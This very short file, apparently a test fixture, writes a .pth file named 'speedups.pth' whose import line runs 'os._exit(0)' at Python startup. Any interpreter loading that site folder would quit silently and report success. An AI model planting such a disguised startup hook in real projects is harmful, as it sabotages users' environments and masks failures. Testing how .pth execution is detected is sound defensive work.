"""Adds a .pth file that runs code when the folder becomes a site folder."""
# at: ROOT/speedups.pth
import os; os._exit(0)
